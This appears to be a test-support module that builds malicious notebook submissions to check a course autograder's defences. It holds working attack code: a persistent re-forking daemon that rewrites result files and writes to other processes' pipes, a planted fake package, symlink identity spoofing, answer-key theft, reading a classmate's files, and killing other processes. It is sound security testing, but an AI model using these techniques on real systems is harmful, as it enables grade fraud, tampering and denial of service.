"""Submissions that try to get points without the work, for ``test_grader_attacks.py`` (and for
grading with an older grader, to see what each one got there).

Each builder writes one submission into a fresh folder and returns an ``Attack``: what to
grade (a notebook or a class folder), with which arguments, and how to tell from the grader's
results whether it worked. A blank notebook earns nothing by itself, so every point an attack
on a blank notebook gets is one it should not have. Attacks that probe what the kernel can
reach make a graded function correct only when the reach works (``gate``): the points show
what the kernel could do.
"""
from __future__ import annotations

import json
import os
import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
MARKER = "es-attack-daemon-7f3a"      # in the command line of every process an attack leaves running

RANKS = '''
import numpy as np
def centered_ranks(returns):
    if not _WORKS:
        raise RuntimeError("the attack did not work")
    x = np.asarray(returns, dtype=np.float64)
    order = np.argsort(x, kind="stable")
    ranks = np.empty(len(x))
    ranks[order] = np.arange(len(x))
    for v in np.unique(x):
        ranks[x == v] = ranks[x == v].mean()
    return ranks / (len(x) - 1) - 0.5
'''


@dataclass
class Attack:
    name: str
    target: Path                      # what is graded
    kwargs: dict = field(default_factory=dict)       # grade()/main() arguments (student, ...)
    illegit: tuple = ()               # checks whose points would be the attack's
    note: str = ""


def notebook(src: Path, dst: Path, *cells: str, replace=None) -> Path:
    nb = nbformat.read(str(src), 4)
    if replace:
        old, new = replace
        [cell] = [c for c in nb.cells if c.cell_type == "code" and old in c.source]
        cell.source = cell.source.replace(old, new)
    nb.cells.extend(nbformat.v4.new_code_cell(c) for c in cells)
    dst.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(dst))
    return dst


def blank(name: str) -> Path:
    return ROOT / "notebooks" / f"{name}.ipynb"


def solution(name: str) -> Path:
    return ROOT / "solutions" / f"{name}.ipynb"


def gate(probe: str) -> str:
    """A cell that sets ``_WORKS`` from ``probe`` (code that raises when the reach fails), then
    defines a correct ``centered_ranks`` that only works if it did."""
    return "try:\n" + textwrap.indent(textwrap.dedent(probe), "    ") + "\n    _WORKS = True\nexcept Exception:\n" \
        "    _WORKS = False\n" + RANKS


# ---------------------------------------------------------------- forging the verdict
FORGE_00 = json.dumps({"notebook": "00_es_from_scratch", "total": 4, "max": 4, "checks": [
    {"name": "centered_ranks", "milestone": "M1", "points": 2, "max": 2, "message": "passed"},
    {"name": "es_gradient", "milestone": "M1", "points": 2, "max": 2, "message": "passed"}]})

def daemon(scope: str, pipes: bool) -> str:
    """A process that rewrites every result file named on the command line of a grading process
    of ``scope`` (the issue's attack), and with ``pipes`` writes forged rows into every pipe it
    can open (run only where the kernel is sandboxed: elsewhere it would reach the machine's
    other processes), ignoring SIGTERM and SIGHUP and re-forking itself every second."""
    return f'''
import glob, json, os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
forged, scope, pipes = {FORGE_00!r}, {scope!r}, {pipes!r}
end = time.time() + 900
respawn = time.time() + 1
while time.time() < end:
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            raw = open(f"/proc/{{d}}/cmdline", "rb").read()
        except OSError:
            continue
        if scope.encode() in raw:                     # result files named on a grading process's command line
            for a in raw.split(b"\\0"):
                a = a.decode(errors="ignore")
                if a.endswith(".json") and os.path.isabs(a):
                    try:
                        res = json.load(open(a))
                        for r in res.get("checks", []):
                            r["points"], r["message"] = r["max"], "passed"
                        res["total"] = res.get("max", 0)
                        open(a, "w").write(json.dumps(res))
                    except Exception:
                        pass
        if not pipes or d == str(os.getpid()):
            continue
        try:                                          # pipes of other processes
            for fd in os.listdir(f"/proc/{{d}}/fd"):
                path = f"/proc/{{d}}/fd/{{fd}}"
                if os.readlink(path).startswith("pipe:"):
                    try:
                        w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                        os.write(w, forged.encode())
                        os.close(w)
                    except OSError:
                        pass
        except OSError:
            pass
    if time.time() > respawn:                         # a fresh child now and then: a one-shot kill misses it
        respawn = time.time() + 1
        if os.fork() == 0:
            os.setsid()
            continue
    time.sleep(0.005)
'''


def setsid_rewrites_the_verdict(tmp: Path, pipes: bool = True) -> Attack:
    """The issue's: a process in a new session (setsid) outlives the grader's cleanup and rewrites
    the result file it finds on the grading process's command line; with ``pipes`` it also
    writes forged rows into every pipe it can open, and re-forks every second."""
    code = daemon(str(tmp), pipes)
    cell = ("import subprocess, sys\n"
            f"subprocess.Popen(['setsid', sys.executable, '-c', {code!r}, {MARKER!r}], stdin=subprocess.DEVNULL, "
            "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nimport time; time.sleep(1)")
    return Attack("setsid daemon rewrites the verdict", notebook(blank("00_es_from_scratch"),
                  tmp / "mallory" / "00_es_from_scratch.ipynb", cell), illegit=("centered_ranks", "es_gradient"))


def double_fork_pipe_writer(tmp: Path) -> Attack:
    """Held out: no setsid binary; the kernel double-forks (os.fork, os.setsid, os.fork) a daemon
    that writes forged rows into every pipe it can open and re-forks itself."""
    cell = ("import os, sys\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', {daemon(str(tmp), True)!r}, {MARKER!r}])\n"
            "    os._exit(0)\n"
            "import time; time.sleep(1)")
    return Attack("double fork writes forged rows into pipes", notebook(blank("00_es_from_scratch"),
                  tmp / "mallory" / "00_es_from_scratch.ipynb", cell), illegit=("centered_ranks", "es_gradient"))


FAKE_REPLAY = '''
class RunRejected(Exception):
    pass
MAX_FILE_BYTES = 50 << 20
class _R:
    generations, episodes, seconds, chain_max_diff = 200, [], 1.0, 0.0
    center = None
def verify_run(*a, **k):
    return _R()
'''
FAKE_STUDENT = '''
class _V:
    beats_random = True
    agent_mean = 21.0
    agent_ci = (20.0, 21.0)
    random_mean = -21.0
    random_ci = (-21.0, -20.0)
    seeds = (0, 19)
    agent_scores = random_scores = [0.0] * 20
    def __str__(self):
        return "agent +21 beats random"
def beats_random(*a, **k):
    return _V()
def student_seed(s):
    return 0
'''


def pong_package_in_the_graders_folder(tmp: Path) -> Attack:
    """The issue's: a package named ``pong`` written into the working directory of the grading
    process (first on its import path; ``pong`` was imported only at check time) fakes
    ``verify_run`` and ``beats_random``. Held out as well: the same package written next to the
    checkout the kernel imports from (where it is ignored only if a real ``pong`` is there)."""
    scope = str(tmp).encode()       # only the grading of this submission (others may run on the machine)
    cell = textwrap.dedent(f'''
        import os, sys, es
        targets = set()
        for d in os.listdir("/proc"):
            if not d.isdigit():
                continue
            try:
                cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
                if (b"classroom.grade" in cmd or b"_child_main" in cmd) and {scope!r} in cmd:
                    targets.add(os.readlink(f"/proc/{{d}}/cwd"))
            except OSError:
                pass
        targets.add(os.path.dirname(os.path.dirname(es.__file__)))
        for t in targets:
            try:
                os.makedirs(os.path.join(t, "pong"), exist_ok=True)
                for name, text in (("__init__.py", ""), ("replay.py", {FAKE_REPLAY!r}), ("student.py", {FAKE_STUDENT!r})):
                    if t.endswith("site-packages") or os.path.exists(os.path.join(t, "pong", "games.py")):
                        continue      # never clobber a real pong package (the checkout's)
                    open(os.path.join(t, "pong", name), "w").write(text)
            except OSError:
                pass
        STUDENT_ID = "mallory"
        os.makedirs(RUN_DIR, exist_ok=True)
    ''')
    return Attack("pong package in the grader's working directory",
                  notebook(blank("04_pong"), tmp / "mallory" / "04_pong.ipynb", cell), illegit=("pong_agent",))


# ---------------------------------------------------------------- identity
def _run_next_to(nb_dst: Path, run: Path) -> None:
    shutil.copytree(run, nb_dst.parent / "pong-run")


def symlinked_notebook_to_reference(tmp: Path, reference_run: Path) -> Attack:
    """The issue's: the submitted notebook is a symbolic link to ``.../reference/04_pong.ipynb``,
    whose folder holds the reference run: graded as "reference"."""
    ref = notebook(solution("04_pong"), tmp / "elsewhere" / "reference" / "04_pong.ipynb")
    _run_next_to(ref, reference_run)
    (tmp / "class" / "mallory").mkdir(parents=True)
    os.symlink(ref, tmp / "class" / "mallory" / "04_pong.ipynb")
    return Attack("notebook linked to reference/04_pong.ipynb", tmp / "class", illegit=("pong_agent",),
                  note="the old grader takes the identity from the resolved path")


def nested_reference_folder(tmp: Path, reference_run: Path) -> Attack:
    """The issue's: a submission holding a folder named ``reference`` with the reference run."""
    nb = notebook(solution("04_pong"), tmp / "class" / "mallory" / "reference" / "04_pong.ipynb")
    _run_next_to(nb, reference_run)
    return Attack("nested folder named reference", tmp / "class", illegit=("pong_agent",))


def linked_run_files(tmp: Path, run: Path, student: str) -> Attack:
    """Held out: the run's files are symbolic links to a run kept outside the submission."""
    nb = notebook(solution("04_pong"), tmp / "class" / student / "04_pong.ipynb")
    (nb.parent / "pong-run").mkdir()
    for f in ("config.json", "metrics.jsonl", "checkpoint.npz"):
        os.symlink(run / f, nb.parent / "pong-run" / f)
    return Attack("run files linked to a run outside the folder", tmp / "class", illegit=("pong_agent",))


def linked_run_dir(tmp: Path, run: Path, student: str) -> Attack:
    """Held out: the run directory itself is a symbolic link out of the submission."""
    nb = notebook(solution("04_pong"), tmp / "class" / student / "04_pong.ipynb")
    os.symlink(run, nb.parent / "pong-run")
    return Attack("run folder linked out of the submission", tmp / "class", illegit=("pong_agent",))


def run_dir_up_and_out(tmp: Path, run: Path, student: str) -> Attack:
    """Held out: RUN_DIR = "../<other>/pong-run", a classmate's folder."""
    nb = notebook(solution("04_pong"), tmp / "class" / student / "04_pong.ipynb",
                  replace=('RUN_DIR = "pong-run"', 'RUN_DIR = "../zz-other/pong-run"'))
    shutil.copytree(run, tmp / "class" / "zz-other" / "pong-run")
    return Attack("RUN_DIR leads into a classmate's folder", nb, kwargs={"student": student, "root": nb.parent},
                  illegit=("pong_agent",))


def notebook_linked_to_a_classmates(tmp: Path) -> Attack:
    """Held out: mallory's notebook is a link to alice's in the same class."""
    alice = notebook(solution("00_es_from_scratch"), tmp / "class" / "alice" / "00_es_from_scratch.ipynb")
    (tmp / "class" / "mallory").mkdir(parents=True)
    os.symlink(Path("..") / "alice" / alice.name, tmp / "class" / "mallory" / "00_es_from_scratch.ipynb")
    return Attack("notebook linked to a classmate's", tmp / "class", illegit=("centered_ranks", "es_gradient"),
                  note="mallory's row must not get alice's points")


# ---------------------------------------------------------------- the answer key
def runs_the_solutions(tmp: Path, name: str = "01_cartpole") -> Attack:
    """The issue's: a notebook finds the instructor's solutions/ through the course package's own
    folder (a name the static scan does not see) and runs its code cells."""
    cell = textwrap.dedent(f'''
        import es, nbformat, pathlib
        _root = pathlib.Path(es.__file__).resolve().parents[1]
        _nb = nbformat.read(str(_root / ("sol" + "utions") / "{name}.ipynb"), 4)
        for _c in _nb.cells:
            if _c.cell_type == "code" and "check." not in _c.source:
                try:
                    exec(_c.source, globals())
                except Exception:
                    pass
    ''')
    return Attack("runs the cells of solutions/", notebook(blank(name), tmp / "mallory" / f"{name}.ipynb", cell),
                  illegit=tuple(c for c in _checks(name) if c != "pong_agent"))


def finds_an_answer_key_anywhere(tmp: Path) -> Attack:
    """Held out: looks for the answer key wherever it may be (solutions/ and source/ of the
    checkout it imports from, of the editable install, of every checkout under /work, the git
    history) and passes only if it finds one."""
    probe = '''
    import glob, os, es
    here = os.path.dirname(os.path.dirname(os.path.abspath(es.__file__)))
    places = [here, "/work/main", *glob.glob("/work/*")]
    hits = []
    for p in places:
        for f in glob.glob(os.path.join(p, "s*/00_es_from_scratch.*")) + glob.glob(os.path.join(p, ".git", "config")):
            try:
                text = open(f).read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in text or "ranks[order]" in text or "[core]" in text:
                hits.append(f)
    assert hits
    '''
    return Attack("finds an answer key anywhere on the machine",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", gate(probe)),
                  illegit=("centered_ranks",))


def reads_the_compiled_answer_key(tmp: Path) -> Attack:
    """Held out: the answer key's bytecode (``classroom/__pycache__/references.*.pyc``, written
    the first time a grader with bytecode on imports it; also the replay's and the preflight's)
    beside the support code the kernel imports; passes only if it can read one."""
    probe = '''
    import glob, os, es
    here = os.path.dirname(os.path.dirname(os.path.abspath(es.__file__)))
    hits = []
    for name in ("classroom/__pycache__/references.*", "classroom/__pycache__/preflight.*",
                 "pong/__pycache__/replay.*"):
        for f in glob.glob(os.path.join(here, name)):
            with open(f, "rb") as pyc:
                hits.append(len(pyc.read()))
    assert hits and min(hits) > 16
    '''
    return Attack("reads the answer key's bytecode",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", gate(probe)),
                  illegit=("centered_ranks",))


def delegates_to_the_reference_unseen(tmp: Path) -> Attack:
    """The issue's (kind): a graded function that calls the course's reference implementation
    through ``sys.modules`` (which the static scan does not follow). Scores with the checkout as
    the kernel's support code; nothing with a release that lacks the reference."""
    cell = textwrap.dedent('''
        import sys
        try:
            import es.shaping
        except ImportError:
            pass
        _m = sys.modules.get("es." + "shaping")

        def centered_ranks(returns):
            return _m.centered_ranks(returns).astype(float)
    ''')
    return Attack("delegates to es.shaping through sys.modules",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", cell),
                  illegit=("centered_ranks",))


# ---------------------------------------------------------------- reach
def reads_a_classmates_folder(tmp: Path) -> Attack:
    """Held out: mallory's kernel reads a file in alice's folder of the same class."""
    (tmp / "class" / "alice").mkdir(parents=True)
    secret = tmp / "class" / "alice" / "secret.txt"
    secret.write_text("alice's work")
    nb = notebook(blank("00_es_from_scratch"), tmp / "class" / "mallory" / "00_es_from_scratch.ipynb",
                  gate(f"assert open({str(secret)!r}).read() == \"alice's work\""))
    return Attack("reads a classmate's folder", nb, kwargs={"student": "mallory", "root": nb.parent},
                  illegit=("centered_ranks",))


def sees_the_grader(tmp: Path) -> Attack:
    """Held out: the kernel finds the grading process (its command line) and opens its files."""
    probe = '''
    import os
    found = []
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                if b"_child_main" in open(f"/proc/{d}/cmdline", "rb").read() or \\
                        b"classroom.grade" in open(f"/proc/{d}/cmdline", "rb").read():
                    found.append(os.listdir(f"/proc/{d}/fd"))
            except OSError:
                pass
    assert found
    '''
    return Attack("sees the grading process and its files",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", gate(probe)),
                  illegit=("centered_ranks",))


def writes_outside_its_folder(tmp: Path) -> Attack:
    """Held out: the kernel creates a file in the support code and in Python's site-packages
    (where a ``.pth`` file would run in every later Python process, the grader's included).
    The probe file is harmless and removed at once."""
    probe = '''
    import os, sys, es, sysconfig
    made = []
    for d in (os.path.dirname(os.path.dirname(es.__file__)), sysconfig.get_paths()["purelib"]):
        p = os.path.join(d, "zz-es-attack-probe.txt")
        with open(p, "w") as f:
            f.write("x")
        made.append(p)
        os.unlink(p)
    assert len(made) == 2
    '''
    return Attack("writes into the support code and site-packages",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", gate(probe)),
                  illegit=("centered_ranks",))


def kills_what_it_sees(tmp: Path) -> Attack:
    """Held out: the kernel SIGKILLs every grading process it can see but its own (other
    students' kernels and grading processes, the grader). Limited to those, so that run
    without a sandbox it cannot take the machine down."""
    cell = textwrap.dedent('''
        import os, signal
        me = {os.getpid(), os.getppid()}
        for d in os.listdir("/proc"):
            if d.isdigit() and int(d) not in me and int(d) > 1:
                try:
                    cmd = open(f"/proc/{d}/cmdline", "rb").read()
                    if any(w in cmd for w in (b"ipykernel", b"_child_main", b"classroom", b"es-grade")):
                        os.kill(int(d), signal.SIGKILL)
                except (OSError, ValueError):
                    pass
    ''')
    return Attack("kills every process it can see",
                  notebook(blank("00_es_from_scratch"), tmp / "mallory" / "00_es_from_scratch.ipynb", cell),
                  illegit=("centered_ranks", "es_gradient"))


def _checks(name):
    from classroom.check import checks_for
    return checks_for(name)


# ---------------------------------------------------------------- shared by the grader's tests
def sandboxed() -> bool:
    """Whether graded kernels get a sandbox here: as root (namespaces), or as an ordinary user
    where bubblewrap can build one (``tests/classroom/test_grader_as_user.py`` runs these tests so)."""
    from classroom.sandbox import mode
    return mode()[0] in ("namespaces", "bubblewrap")


def _pytest():
    import pytest
    return pytest


def needs_sandbox(fn):
    return _pytest().mark.skipif(not sandboxed(), reason="the kernel sandbox needs Linux and root, or bubblewrap "
                                 "and user namespaces (classroom.sandbox.mode() says why); without it these attacks "
                                 "would reach the machine")(fn)


def make_reference_run(tmp_path_factory) -> Path:
    """A run trained for the identifier "reference" on the course's configuration (one
    generation of whole games, ~25 s), made once per test session: it replays, and its agent
    does not beat random. (Quicker than ``solutions/pong-run``, and independent of it.)"""
    from dataclasses import replace
    from pong.replay import REFERENCE
    from pong.student import student_config, train_until_beats_random
    run_dir = tmp_path_factory.getbasetemp() / "reference-run" / "pong-run"
    if not (run_dir / "checkpoint.npz").exists():
        config = replace(student_config("reference"), generations=1)
        verdict, _, generations = train_until_beats_random("reference", run_dir, REFERENCE, config=config,
                                                           progress=False)
        assert generations == 1 and verdict is None
    return run_dir
